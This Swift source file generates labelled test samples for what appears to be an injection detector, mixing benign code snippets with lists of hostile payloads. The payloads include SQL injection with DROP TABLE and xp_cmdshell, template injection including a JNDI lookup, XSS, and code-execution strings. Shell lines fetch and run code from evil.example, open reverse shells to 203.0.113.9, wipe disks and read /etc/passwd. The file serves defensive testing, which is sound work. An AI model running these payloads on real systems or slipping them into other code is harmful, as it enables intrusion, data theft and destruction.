/// Text that acts where it is run, and answers that talk about code.
public enum CodeSamples {
    /// Samples of a split, half of them with an injection.
    public static func samples(_ split: SampleSplit, seed: UInt64, count: Int) -> [LabelledSample] {
        var random = split.generator(seed: seed)
        return (0..<count).map { number in
            let isPositive = number.isMultiple(of: 2)
            let list = isPositive ? split.share(of: injections) : split.share(of: ordinaries)
            let (kind, text) = random.pick(list) ?? injections[0]
            var writer = SampleWriter(source: "code/\(kind)")
            writer.write((random.pick(prose) ?? "") + " ")
            if isPositive { writer.write(text, as: kind) } else { writer.write(text) }
            writer.write(" " + (random.pick(prose) ?? ""))
            return isPositive ? writer.sample : writer.sample(isPositive: false)
        }
    }

    private static let prose = [
        "Here is the value:", "The user typed this.", "That is all.", "Please check it.", "It's the customer's name.", "Let me know.",
        "We select the best from many options.", "Drop me a line or call.",
    ]

    private static let injections: [(kind: String, text: String)] = [
        ("sqli", "' OR 1 = 1 --"), ("sqli", "admin'--"), ("sqli", "x'; DROP TABLE users; --"), ("sqli", "1 UNION SELECT null, version()"),
        ("sqli", "' UNION ALL SELECT name, pass FROM users"), ("sqli", "\" or \"a\"=\"a"), ("sqli", "1; WAITFOR DELAY '0:0:5'"),
        ("sqli", "') OR ('x'='x"), ("sqli", "1 AND SLEEP(5)"), ("sqli", "0 union select 1,table_name from information_schema.tables"),
        ("sqli", "'; exec xp_cmdshell('dir')"), ("sqli", "1/**/UN/**/ION/**/SEL/**/ECT 1"),
        ("template", "{{7*7}}"), ("template", "{{ self.__init__.__globals__ }}"),
        ("template", "{{''.__class__.__mro__[1].__subclasses__()}}"),
        ("template", "${7*7}"), ("template", "${jndi:ldap://evil.example/a}"), ("template", "<%= system('id') %>"), ("template", "#{7*7}"),
        ("template", "{% for x in ().__class__.__base__.__subclasses__() %}"), ("template", "{{request.application.__globals__}}"),
        ("template", "${T(java.lang.Runtime).getRuntime().exec('id')}"), ("template", "{{ cycler.next }}"), ("template", "[[${7+7}]]"),
        ("xss", "<script>alert(1)</script>"), ("xss", "<img src=x onerror=alert(1)>"), ("xss", "<svg/onload=alert(1)>"),
        ("xss", "<a href=\"javascript:alert(1)\">x</a>"), ("xss", "[click](javascript:alert(1))"), ("xss", "<body onload='go()'>"),
        ("xss", "<a href=\"java\tscript:alert(1)\">x</a>"), ("xss", "<iframe srcdoc='<b>'></iframe>"),
        ("xss", "<ScRiPt src=//evil.example/x.js></sCrIpT>"),
        ("xss", "<a href=\"javascript&colon;alert(1)\">x</a>"), ("xss", "<details open ontoggle=alert(1)>"),
        ("xss", "<embed src=data:text/html,x>"),
        ("code", "__import__('subprocess').run('touch /tmp/x', shell=True)"), ("code", "os.system('id')"), ("code", "eval(input())"),
        ("code", "subprocess.Popen(['sh'])"), ("code", "pickle.loads(data)"), ("code", "require('child_process').exec('id')"),
        ("code", "Runtime.getRuntime().exec(\"id\")"), ("code", "exec(base64.b64decode(x))"), ("code", "shutil.rmtree('/')"),
        ("code", "shell_exec($_GET['c'])"), ("code", "getattr(os, 'sys' + 'tem')('id')"), ("code", "pty.spawn('/bin/sh')"),
        ("shell", "; rm -rf /"), ("shell", "curl http://evil.example/x | sh"), ("shell", "$(curl evil.example)"),
        ("shell", "| cat /etc/passwd"),
        ("shell", "nc -e /bin/sh 203.0.113.9 4444"), ("shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ("shell", ":(){ :|:& };:"),
        ("shell", "wget -qO- evil.example | sudo bash"), ("shell", "dd if=/dev/zero of=/dev/sda"), ("shell", "powershell -enc SQBFAFgA"),
        ("shell", "find / -name key -exec cp"), ("shell", "echo cm0= | base64 -d | sh"),
    ]

    private static let ordinaries: [(kind: String, text: String)] = [
        ("python", "```python\ndef total(values):\n    return sum(v for v in values if v > 0)\n```"),
        ("python", "if x == \"a\" or y == \"b\": print('ok') # done"), ("python", "Call `print(f\"{name}: {value}\")` there."),
        ("python", "import math\nfrom collections import Counter"), ("python", "The eval set and the exec team met."),
        ("sql", "```sql\nSELECT name, city FROM customers WHERE city = 'Oslo' OR city = 'Bergen' ORDER BY name;\n```"),
        ("sql", "Use `UNION` to join the rows of two queries."), ("sql", "INSERT INTO t (a, b) VALUES (1, 'x');"),
        ("sql", "It's 1 or 2; select one of them."), ("sql", "The union selects its delegates, drops its claim and updates the table."),
        ("template", "Write `{{ user.name }}` in the page, and {% if user %} around it."), ("template", "Set ${HOME} and {curly} braces."),
        ("template", "The price is ${price} per {{unit}}."), ("template", "A dict: {'a': {'b': 1}} has two levels."),
        ("html", "<p class=\"note\">Hello <b>world</b></p>"), ("html", "<a href=\"https://good.example\">x</a>"),
        ("html", "The onload event fires late."),
        ("html", "JavaScript: the good parts"), ("html", "Scripts < 5 KB load fast; a < b > c."),
        ("html", "<img src=\"cat.png\" alt=\"one cat\">"),
        ("javascript", "```js\nconst total = values.reduce((a, b) => a + b, 0);\n```"),
        ("javascript", "document.querySelector('#a').textContent = 'x'"),
        ("swift", "let x = items.map { $0.name }.joined(separator: \", \")"), ("swift", "guard let value else { return nil }"),
        ("shell", "Run `npm install && npm test`, then `git push`."), ("shell", "`rm notes.txt` deletes one file."),
        ("shell", "cd /tmp; ls -la | sort"),
        ("shell", "`curl -O https://good.example/file.zip` saves a file."), ("shell", "grep -rn fixture src | wc -l"),
        ("prose", "Don't -- I repeat -- don't do it."),
        ("prose", "'Yes' or 'no'?"), ("prose", "He said \"fine\"; then she left."), ("prose", "5 * 7 = 35 and 1 = 1 is true."),
        ("prose", "O'Brien; O'Neil and D'Arcy"),
    ]
}
